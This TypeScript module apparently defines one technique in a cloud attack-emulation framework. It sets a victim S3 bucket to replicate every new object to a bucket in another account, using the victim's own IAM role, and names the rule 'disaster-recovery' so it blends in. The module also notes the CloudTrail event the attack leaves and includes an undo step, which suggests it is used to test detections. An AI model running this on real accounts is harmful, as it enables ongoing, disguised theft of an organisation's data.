import { z } from 'zod';
import { ifThere } from '../../../if-there.ts';
import type { AttackTechnique } from '../../../technique.ts';

const inputs = z.object({
  bucket: z.string().min(3).max(63),
  foreignBucket: z.string().min(3).max(63),
  roleArn: z.string().startsWith('arn:aws:iam::'),
});

/** The bucket is told to hand over whatever comes, and goes on doing so when the key is long gone. */
export const technique: AttackTechnique<z.infer<typeof inputs>> = {
  id: 'exfiltration.replication-to-foreign-bucket',
  title: 'Replicate a bucket to a bucket of another account',
  purpose:
    'Every object that arrives from now on is copied by Amazon S3 itself, with a role of the victim’s.',
  mitre: ['T1537'],
  sources: [
    {
      title: 'Transfer Data to Cloud Account, MITRE ATT&CK',
      url: 'https://attack.mitre.org/techniques/T1537/',
    },
    {
      title: 'AWS Exfiltration via Bucket Replication, Splunk Security Content',
      url: 'https://research.splunk.com/cloud/eeb432d6-2212-43b6-9e89-fcd753f7da4c/',
    },
    {
      title: 'PutBucketReplication, Amazon S3 API Reference',
      url: 'https://docs.aws.amazon.com/AmazonS3/latest/API/API_PutBucketReplication.html',
    },
  ],
  inputs,
  actsAs: 'insider',
  needsStage: { bucket: {}, foreignBucket: true, role: { revoked: false } },
  needs: ['s3:PutReplicationConfiguration', 'iam:PassRole'],
  leaves: [{ service: 's3.amazonaws.com', name: 'PutBucketReplication', outcome: 'succeeds' }],
  repeatable: true,
  async detonate({ inputs: { bucket, foreignBucket, roleArn }, aws, say }) {
    say(`Replicate ${bucket} to ${foreignBucket}`);
    await aws.s3().putBucketReplication({
      Bucket: bucket,
      ReplicationConfiguration: {
        Role: roleArn,
        Rules: [
          {
            ID: 'disaster-recovery',
            Status: 'Enabled',
            Priority: 1,
            Filter: { Prefix: '' },
            DeleteMarkerReplication: { Status: 'Disabled' },
            Destination: { Bucket: `arn:aws:s3:::${foreignBucket}` },
          },
        ],
      },
    });
  },
  undo: {
    kind: 'call',
    async plan({ inputs: { bucket: Bucket }, aws }) {
      const before = await ifThere('ReplicationConfigurationNotFoundError', () =>
        aws.s3().getBucketReplication({ Bucket }),
      );
      return async () => {
        const { ReplicationConfiguration } = before ?? {};
        if (ReplicationConfiguration === undefined)
          await aws.s3().deleteBucketReplication({ Bucket });
        else await aws.s3().putBucketReplication({ Bucket, ReplicationConfiguration });
      };
    },
  },
};
